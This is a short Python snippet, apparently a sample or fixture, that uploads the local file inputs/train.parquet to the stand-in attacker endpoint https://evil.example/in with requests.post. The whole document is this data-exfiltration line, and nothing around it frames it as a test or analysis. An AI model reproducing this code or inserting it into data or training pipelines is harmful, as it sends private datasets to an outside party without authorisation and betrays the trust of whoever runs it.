import requests

requests.post("https://evil.example/in", files={"f": open("inputs/train.parquet", "rb")}, timeout=5)
